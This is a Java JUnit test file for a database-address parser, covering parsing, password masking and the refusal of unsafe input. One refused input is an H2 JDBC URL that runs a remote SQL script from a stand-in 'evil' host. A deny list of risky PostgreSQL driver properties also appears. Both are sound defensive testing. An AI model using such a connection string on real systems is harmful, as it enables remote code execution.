package dev.onggi.workspace;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.onggi.problem.OnggiException;
import dev.onggi.problem.ProblemCode;
import dev.onggi.yaml.YamlNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class StoreUrlTest {
    @TempDir Path folder;

    private static StoreUrl parse(String text) {
        return StoreUrl.parse(text, null);
    }

    private static ProblemCode code(Throwable e) {
        return ((OnggiException) e).problems().getFirst().code();
    }

    @Test
    void anAddressIsTakenApart() {
        var url =
                parse(
                        "jdbc:postgresql://db.example:6432/onggi?user=u&password=a+b%26%20c"
                                + "&currentSchema=shop&SSLMODE=require");

        assertThat(url)
                .isEqualTo(
                        new StoreUrl(
                                "db.example",
                                6432,
                                "onggi",
                                "u",
                                "a+b& c",
                                Map.of("currentSchema", "shop", "sslmode", "require")));
        assertThat(url.schema()).isEqualTo("shop");
        assertThat(url).hasToString("postgresql://db.example:6432/onggi");
    }

    @Test
    void portUserAndPasswordMayBeLeftOut() {
        var url = parse("jdbc:postgresql://[::1]/onggi");

        assertThat(url.port()).isEqualTo(5432);
        assertThat(url.user() + url.password()).isEmpty();
        assertThat(url.schema()).isNull();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "onggi.db",
                "jdbc:sqlite:onggi.db",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "postgresql://db/onggi",
                "jdbc:postgresql:onggi",
                "jdbc:postgresql://a,b/onggi",
                "jdbc:postgresql://u:canary42@db/onggi",
                "jdbc:postgresql://db/",
                "jdbc:postgresql://db:0/onggi",
                "jdbc:postgresql://db:99999/onggi",
                "jdbc:postgresql://db/on/ggi",
                "jdbc:postgresql://db/onggi?user=%zz",
                "jdbc:postgresql://db/onggi?user=u#x",
                " jdbc:postgresql://db/onggi"
            })
    void whatIsNoAddressIsRefused(String text) {
        assertThatThrownBy(() -> parse(text))
                .satisfies(e -> assertThat(code(e)).isEqualTo(WorkspaceProblem.STORE_ADDRESS))
                .hasMessageNotContaining("canary42");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "socketFactory",
                "socketFactoryArg",
                "sslfactory",
                "sslhostnameverifier",
                "sslpasswordcallback",
                "xmlFactoryFactory",
                "authenticationPluginClassName",
                "loggerFile",
                "service",
                "sslkey",
                "options",
                "preferQueryMode",
                "gssEncMode"
            })
    void propertiesThatCouldDoHarmAreRefused(String name) {
        assertThatThrownBy(() -> parse("jdbc:postgresql://db/onggi?" + name + "=x"))
                .satisfies(e -> assertThat(code(e)).isEqualTo(WorkspaceProblem.STORE_PROPERTY))
                .hasMessageContaining(name);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"sslmode=none", "currentSchema=a,b", "socketTimeout=x", "user=a&user=b"})
    void valuesAreChecked(String query) {
        assertThatThrownBy(() -> parse("jdbc:postgresql://db/onggi?" + query))
                .satisfies(e -> assertThat(code(e)).isEqualTo(WorkspaceProblem.STORE_VALUE));
    }

    private Workspace workspace(String yaml, Map<String, String> variables) throws IOException {
        Files.writeString(folder.resolve("onggi.yaml"), yaml);
        return Workspaces.open(folder, null, variables);
    }

    private static StoreUrl store(Workspace workspace) {
        var node = (YamlNode.Scalar) workspace.setting("store").orElseThrow();
        return StoreUrl.parse(node.text(), node.place());
    }

    @Test
    void aVariableInsideMayHoldAnyCharactersAndIsMasked() throws IOException {
        var workspace =
                workspace(
                        "store: \"jdbc:postgresql://db/onggi?user=u&password=${env.PW}\"\n",
                        Map.of("PW", "a&user=x%20#+é"));

        var url = store(workspace);

        assertThat(url.user()).isEqualTo("u");
        assertThat(url.password()).isEqualTo("a&user=x%20#+é");
        assertThat(workspace.secrets().mask("said a&user=x%20#+é")).isEqualTo("said ***");
    }

    @Test
    void theWholeAddressMayBeAVariableAndItsPasswordIsMasked() throws IOException {
        var workspace =
                workspace(
                        "store: \"${env.STORE}\"\n",
                        Map.of("STORE", "jdbc:postgresql://db/onggi?user=u&password=canary%2B42"));

        assertThat(store(workspace).password()).isEqualTo("canary+42");
        assertThat(workspace.secrets().mask("said canary+42")).isEqualTo("said ***");
    }

    @Test
    void aPasswordInTheFileIsMasked() throws IOException {
        var workspace =
                workspace("store: jdbc:postgresql://db/onggi?user=u&password=canary42\n", Map.of());

        assertThat(store(workspace).password()).isEqualTo("canary42");
        assertThat(workspace.secrets().mask("said canary42")).isEqualTo("said ***");
    }

    @Test
    void anEnvironmentMayHaveItsOwn() throws IOException {
        Files.writeString(
                folder.resolve("onggi.yaml"),
                "environments: {dev: {}, prod: {store: \"jdbc:postgresql://db/onggi\"}}\n");

        assertThat(Workspaces.open(folder, "dev", Map.of()).setting("store")).isEmpty();
        assertThat(store(Workspaces.open(folder, "prod", Map.of())).host()).isEqualTo("db");
    }

    @Test
    void aWrongOneIsToldWithItsPlaceAndWithoutItsPassword() {
        assertThatThrownBy(() ->
                        workspace("timezone: UTC\nstore: postgresql://u:canary42@db/x\n", Map.of()))
                .hasMessageContaining("onggi.yaml:2:8")
                .hasMessageContaining("ONGGI-1019")
                .hasMessageNotContaining("canary42");
    }
}
